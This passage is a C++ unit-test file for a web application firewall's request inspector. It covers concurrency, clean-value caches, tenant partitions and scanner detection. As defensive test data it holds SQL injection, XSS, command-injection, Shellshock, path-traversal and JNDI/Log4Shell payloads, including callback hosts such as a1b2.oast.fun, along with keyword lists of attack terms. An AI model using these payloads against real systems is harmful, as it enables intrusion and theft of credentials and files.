      Profile::FromJson(R"({"custom_rules":[{"id":"a","pattern":"x"},{"id":"a","pattern":"y"}]})")
          .ok());
  EXPECT_FALSE(Profile::FromJson("not json").ok());
  EXPECT_TRUE(Profile::FromJson("{}").ok());
}

TEST(Inspector, DisabledCategoryProducesNoFinding) {
  auto in = Make(R"({"disabled_categories":["xss"]})");
  Verdict v =
      InspectWith(*in, testing::Get("/?q=" + testing::UrlEncode("<script>alert(1)</script>")));
  EXPECT_FALSE(testing::HasCategory(v, Category::kXss));
}

TEST(Inspector, ConcurrentInspectionsAgree) {
  const Inspector& in = testing::DefaultInspector();
  std::vector<OwnedHttpRequest> reqs = {
      testing::Get("/?q=" + testing::UrlEncode("1 union select 1,2")),
      testing::Get("/?q=hello+world"),
      testing::Get("/?q=" + testing::UrlEncode("<svg onload=alert(1)>")),
      testing::Get("/?q=" + testing::UrlEncode("; cat /etc/passwd"))};
  std::vector<Action> expected;
  for (const auto& r : reqs) expected.push_back(InspectWith(in, r).action);
  std::atomic<int> mismatches{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      auto scratch = in.NewScratch();
      for (int i = 0; i < 200; ++i) {
        std::size_t k = static_cast<std::size_t>(i) % reqs.size();
        if (in.Inspect(reqs[k].view(), *scratch).action != expected[k]) ++mismatches;
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(mismatches.load(), 0);
  EXPECT_EQ(expected[1], Action::kAllow);
  EXPECT_EQ(expected[0], Action::kBlock);
}

TEST(Inspector, ScratchIsReusableAcrossRequests) {
  const Inspector& in = testing::DefaultInspector();
  auto scratch = in.NewScratch();
  OwnedHttpRequest bad = testing::Get("/?q=" + testing::UrlEncode("' or 1=1--"));
  OwnedHttpRequest good = testing::Get("/?q=shoes");
  for (int i = 0; i < 50; ++i) {
    EXPECT_EQ(in.Inspect(bad.view(), *scratch).action, Action::kBlock);
    EXPECT_EQ(in.Inspect(good.view(), *scratch).action, Action::kAllow);
  }
}

}  // namespace
}  // namespace shieldx::detect

namespace shieldx::detect {
namespace {

// `count` random tokens of ASCII letters and digits, 1 to `max_len` long, appended to `values`.
void AppendRandomAlnum(uint32_t seed, int count, std::size_t max_len,
                       std::vector<std::string>* values) {
  std::mt19937 rng(seed);
  const std::string alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
  for (int i = 0; i < count; ++i) {
    std::string s(1 + rng() % max_len, 'a');
    for (char& c : s) c = alphabet[rng() % alphabet.size()];
    values->push_back(std::move(s));
  }
}

std::string AsciiLowered(std::string s) {
  for (char& c : s) c = ToLowerAscii(c);
  return s;
}

using DetectFn = void (*)(const ValueView&, DetectorScratch&, FindingSink&);

// The values of a space-separated list.
std::vector<std::string> SplitWords(std::string_view words) {
  std::vector<std::string> values;
  for (std::size_t b = 0, e; b < words.size(); b = e + 1) {
    e = std::min(words.find(' ', b), words.size());
    values.emplace_back(words.substr(b, e - b));
  }
  return values;
}

// Runs each of `skipped` on each value, in every source and under names that change the
// judgement, and expects no finding.
void ExpectNoFinding(const std::vector<std::string>& values, const std::vector<DetectFn>& skipped) {
  Arena arena(4096);
  DetectorScratch scratch;
  scratch.arena = &arena;
  FindingSink sink;
  for (Source source : {Source::kQuery, Source::kPathSegment, Source::kHeader, Source::kCookie,
                        Source::kJson, Source::kBodyForm}) {
    for (const char* name : {"q", "url", "cmd", "file", "template", "host", "User-Agent"}) {
      for (const std::string& value : values) {
        const std::string lower = AsciiLowered(value);
        const Field field{source, Part::kValue, 0, name, value};
        const ValueView v{&field, value, lower};
        for (DetectFn detect : skipped) {
          sink.Clear();
          arena.Reset();
          detect(v, scratch, sink);
          EXPECT_TRUE(sink.findings().empty())
              << value << " in " << name << ": " << sink.findings()[0].rule;
        }
      }
    }
  }
}

// The inspector runs only the command, code and NoSQL detectors (and traversal, for literal
// "0x2e" bytes) on a value of ASCII letters and digits (kDetAlnumValues in inspector.cc). The
// others must have no rule that such a value can match: names they look for, numbers and
// hostnames, in every source they run on.
TEST(AlnumValues, TheDetectorsTheInspectorSkipsFindNothingInLettersAndDigits) {
  // Names the skipped detectors look for, numbers and hostnames; then words the detectors that
  // do run judge (a command, a Java class, a NoSQL function, the serialized-object magic).
  std::vector<std::string> values = SplitWords(
      "select union sleep benchmark waitfor delay or and xor null alert eval prompt document "
      "window localStorage XMLHttpRequest script javascript vbscript onerror onload iframe svg "
      "img constructor localhost metadata burpcollaborator oastfun 2130706433 0 4294967295 "
      "3232235777 017700000001 jndi ldap rmi dns entity doctype system rcpt helo quit rset data "
      "objectclass uid cn admin passwd shadow etc winini bootini htaccess WEBINF setcookie "
      "location jsessionid ENTITY SYSTEM php phpinfo SELECT UNION ALERT "
      "whoami processbuilder mapreduce aced0005");
  AppendRandomAlnum(20261129, 2000, 64, &values);
  ExpectNoFinding(
      values, {DetectSqli, DetectXss, DetectSsrfRfi, DetectSsti, DetectJndi, DetectLdapi, DetectXxe,
               DetectHeaderInjection, DetectMailSsi, DetectPathTraversal});
}

// A value of letters, digits, '_' and '-' (base64url tokens, UUIDs, dates, slugs, snake_case
// names) gets the SQL detector as well ("information_schema", "1--" are SQL); the rest of
// the skipped detectors must find nothing in such a value either.
TEST(AlnumValues, TheDetectorsTheInspectorSkipsFindNothingInWordCharacters) {
  std::vector<std::string> values = SplitWords(
      "information_schema pg_catalog pg_sleep load_file xp_cmdshell call_user_func shell_exec "
      "file_get_contents __proto__ constructor-prototype _memberaccess document-cookie "
      "javascript-alert on-error onerror_ x-forwarded-for 127-0-0-1 169-254-169-254 "
      "etc-passwd WEB-INF web_inf boot-ini win-ini proc-self-environ ..- -- 1-- or-1 "
      "550e8400-e29b-41d4-a716-446655440000 2023-07-03 zh-CN en_US utm_source "
      "ig8euxZM2rNcNbdlhoNvNC8BqJIzNbfqXBvEqxTEto8BTrNvN0GvT90W5JZMkX_YN0MvXg8gNEV4NC8xNEV4N "
      "jndi-ldap rmi_ dns-log entity-system rcpt-to set-cookie x-xss-protection "
      "objectclass_ uid-admin cn_admin phpinfo_ php-cgi webshell_php index-php shell-php "
      "0x2e-0x2e 0x2f_0x2f");
  std::mt19937 rng(20261130);
  const std::string alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-";
  for (int i = 0; i < 2000; ++i) {
    std::string v(1 + rng() % 64, 'a');
    for (char& c : v) c = alphabet[rng() % alphabet.size()];
    values.push_back(std::move(v));
  }
  ExpectNoFinding(values, {DetectXss, DetectSsrfRfi, DetectSsti, DetectJndi, DetectLdapi, DetectXxe,
                           DetectHeaderInjection, DetectMailSsi, DetectPathTraversal});
}

// The command and NoSQL detectors take a short path on such values (ValueView::alnum). It must
// report exactly what the full path reports: same rule, confidence and excerpt, for
// command words in command parameters ("cmd=whoami"), "mapreduce", names and random tokens,
// in every source and under names that change the judgement.
TEST(AlnumValues, TheShortPathsReportWhatTheFullPathsReport) {
  std::vector<std::string> values = {
      "whoami",    "id",          "ipconfig", "ifconfig",
      "uname",     "hostname",    "netstat",  "systeminfo",
      "ls",        "dir",         "cat",      "mapreduce",
      "MapReduce", "xmapreducex", "ping",     "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
      "aced0005",  "sleep"};
  AppendRandomAlnum(20261130, 1500, 48, &values);
  Arena arena(4096);
  DetectorScratch scratch;
  scratch.arena = &arena;
  FindingSink full, fast;
  int reported = 0;
  for (Source source : {Source::kQuery, Source::kHeader, Source::kCookie, Source::kJson,
                        Source::kBodyForm, Source::kMultipart}) {
    for (const char* name : {"q", "cmd", "command", "exec", "a[cmd]", "filters[x]"}) {
      for (Part part : {Part::kValue, Part::kName}) {
        for (const std::string& value : values) {
          const std::string lower = AsciiLowered(value);
          const Field field{source, part, 0, name, value};
          ValueView v{&field, value, lower};
          for (DetectFn detect : {DetectCmdi, DetectNosqli}) {
            full.Clear();
            fast.Clear();
            arena.Reset();
            v.alnum = false;
            detect(v, scratch, full);
            v.alnum = true;
            detect(v, scratch, fast);
            ASSERT_EQ(full.findings().size(), fast.findings().size()) << value << " in " << name;
            for (std::size_t i = 0; i < full.findings().size(); ++i) {
              const Finding& a = full.findings()[i];
              const Finding& b = fast.findings()[i];
              EXPECT_EQ(a.rule, b.rule) << value;
              EXPECT_EQ(a.confidence, b.confidence) << value;
              EXPECT_EQ(a.excerpt, b.excerpt) << value;
              ++reported;
            }
          }
        }
      }
    }
  }
  EXPECT_GT(reported, 20);  // the comparison saw findings, not only silence
}

// The detectors that do run on such values still judge them.
TEST(AlnumValues, BareWordRulesStillApply) {
  EXPECT_TRUE(Flagged(testing::Inspect(testing::Get("/run?cmd=whoami"))));
  EXPECT_TRUE(
      Flagged(testing::Inspect(testing::Get("/f?file=0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd"))));
  EXPECT_TRUE(Flagged(testing::InspectQueryValue("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")));
  EXPECT_TRUE(
      Flagged(testing::InspectQueryValue("aced0005737200116a6176612e7574696c2e486173684d6170")));
  // Word characters ('_', '-') keep the SQL detector: a catalog name, a trailing comment, a
  // PHP callback name.
  EXPECT_TRUE(
      testing::HasRule(testing::InspectQueryValue("information_schema"), "sqli.system-catalog"));
  EXPECT_TRUE(Flagged(testing::InspectQueryValue("417652--")));
  EXPECT_TRUE(testing::HasRule(testing::InspectQueryValue("call_user_func_array"),
                               "code.php-callback-name"));
}

}  // namespace
}  // namespace shieldx::detect

namespace shieldx::detect {
namespace {

std::string VerdictKey(const Verdict& v) {
  std::string k = std::string(ActionName(v.action)) + " " + std::to_string(v.score);
  for (const Finding& f : v.findings) {
    k += " " + f.rule + "@" + f.field + "=" + std::to_string(f.confidence) + ":" + f.excerpt;
  }
  return k;
}

// Each request inspected on a fresh Scratch, then all of them four times in shuffled orders on
// one Scratch: every verdict the same. Returns the shared Scratch (its memory's counters).
std::unique_ptr<Scratch> ExpectFreshVerdictsOnOneScratch(const std::vector<OwnedHttpRequest>& reqs,
                                                         unsigned seed) {
  const Inspector& in = testing::DefaultInspector();
  std::vector<std::string> fresh;
  for (const OwnedHttpRequest& r : reqs) fresh.push_back(VerdictKey(InspectWith(in, r)));
  auto scratch = in.NewScratch();
  std::mt19937 rng(seed);
  for (int round = 0; round < 4; ++round) {
    std::vector<std::size_t> order(reqs.size());
    for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
    std::shuffle(order.begin(), order.end(), rng);
    for (std::size_t i : order) {
      EXPECT_EQ(VerdictKey(in.Inspect(reqs[i].view(), *scratch)), fresh[i])
          << "round " << round << " request " << i;
    }
  }
  return scratch;
}

OwnedHttpRequest WithHeaders(const std::string& ua, const std::string& referer,
                             const std::string& custom) {
  OwnedHttpRequest r = testing::Get("/page?id=7");
  r.headers = {{"Host", "shop.example"},
               {"User-Agent", ua},
               {"Referer", referer},
               {"X-Client-Note", custom}};
  return r;
}

// The clean-header cache (inspector.h) must not change a verdict: header values clean,
// weak and hostile, each request seen several times and interleaved with others on one
// Scratch, give exactly the verdict a fresh Scratch gives.
TEST(CleanHeaderCache, RepeatedAndInterleavedHeadersGiveTheFreshVerdict) {
  const std::vector<std::string> values = {
      "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
      "https://shop.example/cart?step=2",
      "<script>alert(1)</script>",
      "() { :; }; /bin/cat /etc/passwd",
      "${jndi:ldap://x.example/a}",
      "1 and 2",
      "x' or '1'='1",
      "sqlmap/1.7",
      "https://www.google.com/search?q=shoes",
      "../../../../etc/passwd",
      "plain note",
  };
  std::vector<OwnedHttpRequest> reqs;
  for (std::size_t i = 0; i < values.size(); ++i) {
    for (std::size_t j = 0; j < values.size(); j += 5) {
      reqs.push_back(WithHeaders(values[i], values[j], values[(i + j) % values.size()]));
    }
  }
  ExpectFreshVerdictsOnOneScratch(reqs, 7);
}

// A route that disables a category drops that category's findings, so a value can look clean
// there; it must still be judged on a route that does not.
TEST(CleanHeaderCache, AValueCleanOnlyBecauseARouteDisablesACategoryIsNotRemembered) {
  auto in = Make(R"({"routes":[{"path_prefix":"/cms/","disabled_categories":["xss"]}]})");
  auto scratch = in->NewScratch();
  OwnedHttpRequest cms = testing::Get("/cms/edit");
  cms.headers.emplace_back("X-Preview", "<script>alert(document.cookie)</script>");
  OwnedHttpRequest shop = testing::Get("/shop");
  shop.headers.emplace_back("X-Preview", "<script>alert(document.cookie)</script>");
  EXPECT_FALSE(Flagged(in->Inspect(cms.view(), *scratch)));
  EXPECT_FALSE(Flagged(in->Inspect(cms.view(), *scratch)));
  EXPECT_TRUE(Flagged(in->Inspect(shop.view(), *scratch)));
}

// A stream of values sent once (request ids, one-off cookies) does not push out the value
// every request sends: the memory keeps the one of two entries that was hit more.
TEST(CleanHeaderCache, OneOffValuesDoNotPushOutTheRepeatedOne) {
  const Inspector& in = testing::DefaultInspector();
  auto scratch = in.NewScratch();
  int ua_hits = 0;
  for (int i = 0; i < 300; ++i) {
    OwnedHttpRequest r = testing::Get("/page?id=7");
    r.headers = {{"Host", "shop.example"},
                 {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"}};
    for (int k = 0; k < 24; ++k) {
      r.headers.emplace_back("X-Trace-" + std::to_string(k),
                             "req-" + std::to_string(i) + "-" + std::to_string(k));
    }
    const uint64_t before = scratch->clean_header_hits();
    in.Inspect(r.view(), *scratch);
    const uint64_t got = scratch->clean_header_hits() - before;
    EXPECT_LE(got, 2u) << i;  // the User-Agent and the Host, never a one-off value
    ua_hits += got > 0;
  }
  EXPECT_GE(ua_hits, 290);
}

// Arguments, cookies and body fields are remembered too, keyed by their place and name as
// well as the value: the same value is judged again where its field changes the verdict (a
// command parameter, a header, a JSON field), and a value with a finding is never remembered.
TEST(CleanFieldCache, SameValueElsewhereIsJudgedAgain) {
  const Inspector& in = testing::DefaultInspector();
  auto scratch = in.NewScratch();
  OwnedHttpRequest plain = testing::Get("/search?q=id&page=2");
  EXPECT_FALSE(Flagged(in.Inspect(plain.view(), *scratch)));
  auto remembered = [&] { return scratch->clean_field_hits() + scratch->clean_whole_field_hits(); };
  const uint64_t before = remembered();
  EXPECT_FALSE(Flagged(in.Inspect(plain.view(), *scratch)));
  EXPECT_GE(remembered() - before, 2u);  // q=id and page=2
  // "id" in a command parameter is the reconnaissance command.
  EXPECT_TRUE(Flagged(in.Inspect(testing::Get("/run?cmd=id").view(), *scratch)));
  // Markup in a header is judged more strictly than in an argument of the same name.
  OwnedHttpRequest arg = testing::Get("/x?x-note=pkg%20install%20%3Cfilename%3E");
  EXPECT_FALSE(Flagged(in.Inspect(arg.view(), *scratch)));
  EXPECT_FALSE(Flagged(in.Inspect(arg.view(), *scratch)));
  OwnedHttpRequest header = testing::Get("/x");
  header.headers.emplace_back("x-note", "pkg install <filename>");
  EXPECT_TRUE(Flagged(in.Inspect(header.view(), *scratch)));
  // An attack is blocked every time it comes.
  OwnedHttpRequest attack = testing::Get("/item?id=1%27%20or%20%271%27%3D%271");
  for (int i = 0; i < 3; ++i) EXPECT_TRUE(Flagged(in.Inspect(attack.view(), *scratch))) << i;
}

// The field memory does not change a verdict: requests whose arguments, cookies and JSON
// fields repeat, mixed with attacks in the same names, give on one Scratch exactly what a
// fresh Scratch gives.
TEST(CleanFieldCache, RepeatedAndInterleavedFieldsGiveTheFreshVerdict) {
  const std::vector<std::string> values = {"7",
                                           "shoes",
                                           "https://shop.example/cart?step=2",
                                           "2024-05-01",
                                           "a|b:c",
                                           "x' or '1'='1",
                                           "<img src=x onerror=alert(1)>",
                                           "../../etc/passwd",
                                           "; cat /etc/passwd",
                                           "{{7*7}}",
                                           "plain note, with words"};
  auto esc = [](const std::string& v) {
    std::string o;
    for (unsigned char c : v) {
      char b[4];
      std::snprintf(b, sizeof(b), "%%%02X", c);
      o += std::isalnum(c) ? std::string(1, static_cast<char>(c)) : std::string(b);
    }
    return o;
  };
  std::vector<OwnedHttpRequest> reqs;
  for (std::size_t i = 0; i < values.size(); ++i) {
    for (std::size_t j = 0; j < values.size(); j += 3) {
      OwnedHttpRequest get = testing::Get("/p?q=" + esc(values[i]) + "&next=" + esc(values[j]));
      get.headers.emplace_back("Cookie", "pref=" + esc(values[j]));
      reqs.push_back(get);
      std::string json = "{\"q\":\"";
      for (char c : values[i]) {
        if (c == '"' || c == '\\') json += '\\';
        json += c;
      }
      json += "\"}";
      reqs.push_back(testing::Post("/api", "application/json", json));
    }
  }
  EXPECT_GT(ExpectFreshVerdictsOnOneScratch(reqs, 11)->clean_whole_field_hits(), 0u);
}

// The whole-field memory is per partition like the others: a tenant's fields are never
// answered from another tenant's traffic (so timing tells one tenant nothing of another's).
TEST(CleanFieldCache, WholeFieldsAreRememberedPerPartition) {
  const Inspector& in = testing::DefaultInspector();
  auto scratch = in.NewScratch();
  OwnedHttpRequest r = testing::Get("/search?q=red%20shoes&page=2");
  scratch->SetCachePartition(1);
  in.Inspect(r.view(), *scratch);
  in.Inspect(r.view(), *scratch);
  const uint64_t hits = scratch->clean_whole_field_hits();
  EXPECT_GE(hits, 2u);
  scratch->SetCachePartition(2);
  in.Inspect(r.view(), *scratch);
  EXPECT_EQ(scratch->clean_whole_field_hits(), hits);
  in.Inspect(r.view(), *scratch);
  EXPECT_GT(scratch->clean_whole_field_hits(), hits);
}

// Whole fields are looked up by their raw value before anything else runs; custom rules read
// the canonical value and belong to their Inspector, so with custom rules in the profile the
// field is inspected every time and a rule's finding comes every time. A field whose base64
// decoding carries the attack is never remembered as clean.
TEST(CleanFieldCache, WholeFieldsWithCustomRulesOrFindingsAreJudgedEveryTime) {
  auto in = Make(R"({"custom_rules":[
      {"id":"ticket","pattern":"zq-4711","targets":["query"],"category":"sqli","confidence":0.9}]})");
  auto scratch = in->NewScratch();
  OwnedHttpRequest r = testing::Get("/t?ref=zq-4711&page=2");
  for (int i = 0; i < 3; ++i) EXPECT_TRUE(Flagged(in->Inspect(r.view(), *scratch))) << i;
  EXPECT_EQ(scratch->clean_whole_field_hits(), 0u);
  const Inspector& plain = testing::DefaultInspector();
  auto fresh = plain.NewScratch();
  // base64 of "<script>alert(document.cookie)</script>"
  OwnedHttpRequest b64 =
      testing::Get("/t?d=PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ%2B");
  for (int i = 0; i < 3; ++i) EXPECT_TRUE(Flagged(plain.Inspect(b64.view(), *fresh))) << i;
}

// The scanner check remembers header values it found nothing in: the same User-Agent is
// answered from memory on the next request, a tool's User-Agent or a callback domain is
// reported every time, and a tool found on a route that drops scanner findings is not
// remembered as clean for the routes that keep them.
TEST(ScannerMemo, CleanHeadersAreRememberedToolsAreReportedEveryTime) {
  const Inspector& in = testing::DefaultInspector();
  auto scratch = in.NewScratch();
  OwnedHttpRequest browser = testing::Get("/");
  EXPECT_FALSE(Flagged(in.Inspect(browser.view(), *scratch)));
  const uint64_t before = scratch->scanner_memo_hits();
  EXPECT_FALSE(Flagged(in.Inspect(browser.view(), *scratch)));
  EXPECT_GE(scratch->scanner_memo_hits() - before, 2u);  // User-Agent and Accept
  OwnedHttpRequest tool = testing::Get("/");
  tool.headers[1].second = "sqlmap/1.7.2#stable (https://sqlmap.org)";
  OwnedHttpRequest callback = testing::Get("/");
  callback.headers.emplace_back("X-Api-Version", "${jndi:ldap://a1b2.oast.fun/x}");
  for (int i = 0; i < 3; ++i) {
    EXPECT_TRUE(HasCategory(in.Inspect(tool.view(), *scratch), Category::kScanner)) << i;
    EXPECT_TRUE(HasCategory(in.Inspect(callback.view(), *scratch), Category::kScanner)) << i;
  }
  // The same header value in another partition is scanned again.
  scratch->SetCachePartition(9);
  const uint64_t other = scratch->scanner_memo_hits();
  in.Inspect(browser.view(), *scratch);
  EXPECT_EQ(scratch->scanner_memo_hits(), other);
}

TEST(ScannerMemo, AToolDroppedByARouteIsNotRememberedAsClean) {
  auto in = Make(R"({"routes":[{"path_prefix":"/quiet/","disabled_categories":["scanner"]}]})");
  auto scratch = in->NewScratch();
  OwnedHttpRequest quiet = testing::Get("/quiet/x");
  quiet.headers[1].second = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)";
  OwnedHttpRequest loud = testing::Get("/shop");
  loud.headers[1].second = quiet.headers[1].second;
  EXPECT_FALSE(HasCategory(in->Inspect(quiet.view(), *scratch), Category::kScanner));
  EXPECT_FALSE(HasCategory(in->Inspect(quiet.view(), *scratch), Category::kScanner));
  EXPECT_TRUE(HasCategory(in->Inspect(loud.view(), *scratch), Category::kScanner));
}

// Remembered values are per partition (a tenant): one tenant's traffic does not make another
// tenant's requests faster, so timing reveals nothing across tenants.
TEST(CleanHeaderCache, RemembersPerPartition) {
  const Inspector& in = testing::DefaultInspector();
  auto scratch = in.NewScratch();
  OwnedHttpRequest r = WithHeaders("Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0",
                                   "https://shop.example/cart?step=2", "plain note");
  scratch->SetCachePartition(1);
  in.Inspect(r.view(), *scratch);
  EXPECT_EQ(scratch->clean_header_hits(), 0u);
  in.Inspect(r.view(), *scratch);
  const uint64_t hits = scratch->clean_header_hits();
  EXPECT_GE(hits, 3u);  // User-Agent, Referer, X-Client-Note
  scratch->SetCachePartition(2);
  in.Inspect(r.view(), *scratch);
  EXPECT_EQ(scratch->clean_header_hits(), hits);
  in.Inspect(r.view(), *scratch);
  EXPECT_GT(scratch->clean_header_hits(), hits);
}

}  // namespace
}  // namespace shieldx::detect
